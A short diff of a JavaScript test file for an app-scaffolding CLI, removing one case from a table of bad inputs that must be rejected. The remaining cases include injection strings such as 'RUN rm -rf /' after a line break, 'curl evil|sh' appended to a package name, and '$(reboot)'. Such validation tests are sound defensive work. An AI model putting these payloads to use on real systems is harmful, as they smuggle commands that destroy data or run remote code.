@@ -94,7 +94,6 @@ describe('create: bad input exits 2 and writes nothing', () => {
     [['app', '--yes', '--requirement', 'x\nRUN rm -rf /'], /line break/],
     [['app', '--yes', '--build-deps', 'libffi-dev;curl evil|sh'], /invalid Alpine package name .* in --build-deps/],
     [['app', '--yes', '--runtime-libs', '$(reboot)'], /in --runtime-libs/],
-    [['app', '--yes', '--app', 'web'], /--app web needs aiohttp/],
     [['app', '--yes', '--app', 'gui'], /invalid app kind/],
     [['app', '--yes', '--requirement', 'aiohttp', '--port', '80'], /invalid port "80"/],
     [['app', '--yes', '--requirements-file', 'missing.txt'], /cannot read --requirements-file .*missing\.txt: no such file/],
